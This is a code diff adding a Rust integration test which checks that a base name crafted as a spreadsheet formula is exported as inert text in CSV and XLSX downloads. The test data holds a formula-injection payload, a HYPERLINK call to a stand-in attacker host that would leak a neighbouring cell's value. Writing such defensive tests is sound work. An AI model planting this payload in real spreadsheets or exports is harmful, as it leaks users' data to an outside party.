@@ -727,3 +727,50 @@ async fn unclear_requests_get_a_problem_that_says_what_to_ask_for() {
         .await;
     }
 }
+
+#[tokio::test]
+async fn a_base_named_like_a_formula_downloads_as_text_not_as_a_formula() {
+    let app = spawn_app().await;
+    let placed = placed_cycle(&app).await;
+    let formula = r#"=HYPERLINK("http://evil.test/?leak="&A2,"Click")"#;
+    let bases = expect_json(
+        app.get("/api/v1/bases?q=Base%20A", &app.admin).await,
+        StatusCode::OK,
+    )
+    .await;
+    let base_a = &bases["items"][0];
+    assert_eq!(base_a["name"], "Base A");
+    let renamed = app
+        .patch(
+            &format!("/api/v1/bases/{}", id(base_a)),
+            &app.admin,
+            json!({"name": formula}),
+        )
+        .await;
+    expect_json(renamed, StatusCode::OK).await;
+
+    let (_, body) = download(&app, &path(&placed, "group_by=base&format=csv"), None).await;
+    let mut reader = csv::Reader::from_reader(&body[3..]);
+    let first = reader
+        .records()
+        .next()
+        .expect("a row")
+        .expect("a CSV record");
+    assert_eq!(
+        first.get(1),
+        Some(format!("'{formula}").as_str()),
+        "a leading apostrophe makes the spreadsheet show the name as text"
+    );
+    assert_eq!(first.get(2), Some("4"), "numbers stay numbers");
+
+    let (_, body) = download(&app, &path(&placed, "group_by=base&format=xlsx"), None).await;
+    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(body)).expect("an XLSX file");
+    let sheet = workbook.worksheet_range("base").expect("the base sheet");
+    let rows: Vec<&[Data]> = sheet.rows().collect();
+    assert_eq!(
+        rows[1][1],
+        Data::String(formula.into()),
+        "the workbook holds the name as a string cell, as typed"
+    );
+    assert_eq!(rows[1][2], Data::Float(4.0));
+}
